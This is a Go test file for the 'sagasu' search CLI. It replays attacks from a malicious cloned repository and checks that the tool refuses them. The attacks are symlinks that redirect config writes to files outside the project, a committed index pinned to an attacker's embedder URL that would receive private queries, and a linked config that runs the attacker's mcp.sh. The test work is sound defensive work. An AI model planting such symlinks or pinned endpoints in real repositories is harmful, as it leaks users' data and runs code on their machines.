package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/sagasu-dev/sagasu/internal/testenv"
)

// TestMCPConfigWriteStaysInTheProject: a clone that plants
// .vscode/mcp.json (or the .vscode folder) as a link to a file of the
// user's does not get that file rewritten by `mcp config vscode --write`.
func TestMCPConfigWriteStaysInTheProject(t *testing.T) {
	const theirs = `{"servers": {"mine": {"type": "stdio", "command": "my-server"}}, "note": "the user's own file"}` + "\n"
	for _, plant := range []string{"file", "folder"} {
		home := t.TempDir()
		proj := filepath.Join(home, "clone")
		victim := filepath.Join(home, "elsewhere", "mcp.json")
		write(t, victim, theirs)
		if err := os.MkdirAll(proj, 0o755); err != nil {
			t.Fatal(err)
		}
		var err error
		if plant == "file" {
			if err = os.MkdirAll(filepath.Join(proj, ".vscode"), 0o755); err == nil {
				err = os.Symlink(victim, filepath.Join(proj, ".vscode", "mcp.json"))
			}
		} else {
			err = os.Symlink(filepath.Dir(victim), filepath.Join(proj, ".vscode"))
		}
		if err != nil {
			t.Fatal(err)
		}
		code, _, errs := sagasu(t, proj, "", "mcp", "config", "vscode", "--write")
		if b, _ := os.ReadFile(victim); string(b) != theirs {
			t.Errorf("linked %s: the file outside the project was rewritten:\n%s", plant, b)
		}
		if code == 0 || !strings.Contains(errs, "outside the project") || !strings.Contains(errs, "--file") {
			t.Errorf("linked %s: exit %d %q, want a refusal saying what to do", plant, code, errs)
		}
	}
	// Named with --file, the user's own file is merged into as before.
	home := t.TempDir()
	victim := filepath.Join(home, "elsewhere", "mcp.json")
	write(t, victim, theirs)
	if code, out, errs := sagasu(t, home, "", "mcp", "config", "vscode", "--write", "--file", victim); code != 0 || !strings.Contains(out, "added") {
		t.Errorf("--file: exit %d %q %q", code, out, errs)
	}
}

// textRecorder is an OpenAI-compatible embedding server on 127.0.0.1 that
// records every text it is sent.
type textRecorder struct {
	*httptest.Server
	mu    sync.Mutex
	texts []string
}

func newTextRecorder(t *testing.T) *textRecorder {
	r := &textRecorder{}
	r.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		var in struct {
			Input []string `json:"input"`
		}
		body, _ := io.ReadAll(req.Body)
		_ = json.Unmarshal(body, &in)
		r.mu.Lock()
		r.texts = append(r.texts, in.Input...)
		r.mu.Unlock()
		data := make([]map[string]any, len(in.Input))
		for i, s := range in.Input {
			data[i] = map[string]any{"object": "embedding", "index": i, "embedding": []float32{float32(len(s)), 1, float32(i + 1), 0.5}}
		}
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(map[string]any{"object": "list", "data": data, "model": "m"})
	}))
	t.Cleanup(r.Close)
	return r
}

func (r *textRecorder) got() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Clone(r.texts)
}

// TestPinnedEmbedderAddressNotContacted plays the attack of issue 35: a
// repository commits .sagasu/sagasu.db built with --embedder openai
// --embedder-url http://attacker/v1. Before, `sagasu index` and `sagasu
// query` in the clone sent every new document and every query there. Now
// nothing is sent until the user names the address or trusts the index;
// the message says how. An index the user made with the flag keeps
// working without it.
func TestPinnedEmbedderAddressNotContacted(t *testing.T) {
	evil := newTextRecorder(t)
	attacker, user := t.TempDir(), t.TempDir()
	clone := filepath.Join(user, "clone")
	write(t, filepath.Join(clone, "README.md"), "# Clone\n\nalpha beta\n")
	// The attacker builds the index in their own home and commits it.
	if code, _, errs := sagasuEnv(t, clone, []string{"HOME=" + attacker}, "index", "--embedder", "openai", "--embedder-url", evil.URL+"/v1", "--embedder-model", "m", "README.md"); code != 0 {
		t.Fatalf("building the pinned index: exit %d\n%s", code, errs)
	}
	sent := len(evil.got())
	write(t, filepath.Join(clone, "notes.md"), "# Notes\n\nthe user's private plan\n")
	for _, args := range [][]string{{"query", "the secret merger"}, {"index", "notes.md"}, {"ask", "the secret merger"}} {
		code, _, errs := sagasuEnv(t, clone, []string{"HOME=" + user}, args...)
		if got := evil.got()[sent:]; len(got) != 0 {
			t.Errorf("sagasu %s sent %q to the address pinned in the cloned index", args[0], got)
		}
		if code == 0 || !strings.Contains(errs, "sagasu trust --index .sagasu/sagasu.db") || !strings.Contains(errs, "--embedder-url "+evil.URL+"/v1") {
			t.Errorf("sagasu %s: exit %d, want a refusal saying how to trust or name the address:\n%s", args[0], code, errs)
		}
	}
	code, out, errs := sagasuEnv(t, clone, []string{"HOME=" + user}, "doctor")
	if got := evil.got()[sent:]; len(got) != 0 || code == 0 || !strings.Contains(out+errs, "trust --index") {
		t.Errorf("doctor: exit %d, sent %q\n%s%s", code, got, out, errs)
	}

	// The user trusts the index as it is: then it is used.
	if code, out, errs := sagasuEnv(t, clone, []string{"HOME=" + user}, "trust", "--index", ".sagasu/sagasu.db"); code != 0 || !strings.Contains(out, evil.URL) {
		t.Errorf("trust --index: exit %d %q %s, want the address it allows", code, out, errs)
	}
	if code, _, errs := sagasuEnv(t, clone, []string{"HOME=" + user}, "query", "the plan"); code != 0 || !slices.Contains(evil.got(), "the plan") {
		t.Errorf("after trust --index: exit %d, sent %q\n%s", code, evil.got()[sent:], errs)
	}

	// First use stays as easy: the user's own index, made with the flag,
	// is searched without it.
	own := filepath.Join(user, "own")
	write(t, filepath.Join(own, "a.md"), "# A\n\ngamma delta\n")
	if code, _, errs := sagasuEnv(t, own, []string{"HOME=" + user}, "index", "--embedder", "openai", "--embedder-url", evil.URL+"/v1", "--embedder-model", "m", "a.md"); code != 0 {
		t.Fatalf("the user's own index: exit %d\n%s", code, errs)
	}
	if code, out, errs := sagasuEnv(t, own, []string{"HOME=" + user}, "query", "gamma"); code != 0 || !strings.Contains(out, "a.md") {
		t.Errorf("the user's own index without the flag: exit %d %q\n%s", code, out, errs)
	}
}

// TestLinkedConfigIsNotTrustedAndServersStartInTheirFolder plays two
// attacks of issue 35. A clone ships sagasu.yaml as a link to a project
// config the user trusts, which names a server `command: ./mcp.sh`: before,
// the link inherited the target's trust and ./mcp.sh ran from the clone
// (the attacker's script). Now trust is keyed on the file as found, and a
// server starts in the folder of the config that named it.
func TestLinkedConfigIsNotTrustedAndServersStartInTheirFolder(t *testing.T) {
	testenv.Platform(t, runtime.GOOS != "windows", "the servers are shell scripts")
	home := t.TempDir()
	ran := filepath.Join(home, "ran")
	script := func(dir, who string) {
		t.Helper()
		write(t, filepath.Join(dir, "mcp.sh"), fmt.Sprintf("#!/bin/sh\necho %s >> %s\n", who, ran))
		if err := os.Chmod(filepath.Join(dir, "mcp.sh"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	trusted, clone := filepath.Join(home, "trusted"), filepath.Join(home, "clone")
	write(t, filepath.Join(trusted, "sagasu.yaml"), "mcp_servers:\n  helper:\n    command: ./mcp.sh\n")
	script(trusted, "trusted")
	script(clone, "attacker")
	if err := os.Symlink(filepath.Join("..", "trusted", "sagasu.yaml"), filepath.Join(clone, "sagasu.yaml")); err != nil {
		t.Fatal(err)
	}
	if code, _, errs := sagasuEnv(t, trusted, []string{"HOME=" + home}, "trust"); code != 0 {
		t.Fatalf("trust: exit %d\n%s", code, errs)
	}
	runs := func() string {
		data, _ := os.ReadFile(ran)
		os.Remove(ran)
		return strings.TrimSpace(string(data))
	}

	_, _, errs := sagasuEnv(t, clone, []string{"HOME=" + home}, "doctor")
	if got := runs(); got != "" {
		t.Errorf("doctor in the clone ran %q: the linked sagasu.yaml was trusted as its target", got)
	}
	if !strings.Contains(errs, "sagasu trust sagasu.yaml") {
		t.Errorf("doctor in the clone does not say the linked file is not trusted:\n%s", errs)
	}

	// Named on purpose from the clone, the trusted file's server starts in
	// its own folder, not in the clone.
	sagasuEnv(t, clone, []string{"HOME=" + home}, "--config", filepath.Join(trusted, "sagasu.yaml"), "doctor")
	if got := runs(); got != "trusted" {
		t.Errorf("--config ../trusted/sagasu.yaml from the clone ran %q, want the trusted folder's ./mcp.sh", got)
	}
	// In its own folder it works as before.
	sagasuEnv(t, trusted, []string{"HOME=" + home}, "doctor")
	if got := runs(); got != "trusted" {
		t.Errorf("doctor in the trusted folder ran %q, want its ./mcp.sh", got)
	}
}
